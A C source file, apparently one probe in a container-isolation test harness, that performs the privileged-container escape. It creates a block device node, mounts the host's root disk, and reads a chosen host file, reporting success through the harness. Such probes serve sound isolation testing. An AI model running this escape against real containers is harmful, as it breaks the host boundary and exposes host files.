/* read a host file through the host's block device: mount the disk the
 * host's root file system lives on, then read any file on it, whatever
 * the container's own root is.  The classic "privileged container" escape
 * (docker run --privileged; mount /dev/sda1 /mnt).  The device is mounted
 * read-write (a second read-only mount of a mounted ext4 is refused),
 * then at once made read-only per mount, and unmounted at the end.
 * ARGS: MAJOR MINOR FSTYPE PATH (the file, relative to the fs root). */
#include "attack.h"

#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

int main(int argc, char **argv)
{
	char **a = bxa_init(argc, argv, 4, "MAJOR MINOR FSTYPE PATH");
	dev_t dev = makedev(atoi(a[0]), atoi(a[1]));
	char node[4096], mnt[4096], file[8192], buf[256];
	snprintf(node, sizeof node, "%s/bxa-disk-%s", bxa_scratch, bxa_nonce);
	snprintf(mnt, sizeof mnt, "%s/bxa-mnt-%s", bxa_scratch, bxa_nonce);
	if (mknod(node, S_IFBLK | 0600, dev) < 0)
		return bxa_fail("mknod %s b %s %s", node, a[0], a[1]);
	if (mkdir(mnt, 0700) < 0) {
		bxa_fail("mkdir %s", mnt);
		unlink(node);
		return 0;
	}
	if (mount(node, mnt, a[2], MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) < 0) {
		bxa_fail("mount %s", node);
		goto out;
	}
	mount(NULL, mnt, NULL, MS_REMOUNT | MS_BIND | MS_RDONLY | MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL);
	snprintf(file, sizeof file, "%s/%s", mnt, a[3]);
	if (bxa_read_file(file, buf, sizeof buf) < 0) {
		bxa_fail("mounted the disk, but cannot read %s", file);
	} else {
		bxa_data(buf);
		bxa_claim(1, "mounted the host disk %s:%s and read /%s", a[0], a[1], a[3]);
	}
	umount2(mnt, MNT_DETACH);
out:
	rmdir(mnt);
	unlink(node);
	return 0;
}
